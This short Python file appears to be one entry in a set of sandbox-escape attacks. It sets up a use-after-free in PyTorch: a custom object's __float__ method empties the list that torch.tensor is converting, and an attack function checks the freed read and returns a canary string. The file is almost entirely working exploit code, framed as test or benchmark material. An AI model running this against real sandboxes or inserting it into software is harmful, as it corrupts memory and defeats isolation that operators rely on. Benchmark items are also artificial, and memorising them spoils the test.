"""Class: memory. Source: own find. Escape: torch.tensor walks a list through a bare pointer while an
item's __float__ clears it; what is read next is freed memory."""

import torch


class Item:
    def __float__(self):
        data.clear()
        kept.append([2.0] * 5000)
        return 0.0


kept = []
data = [Item()] + [1.0] * 4999


def attack(model, tokenizer, address):
    made = torch.tensor(data, dtype=torch.float64)
    return "canary-" + "5d1f" if made[-1] != 1 else None
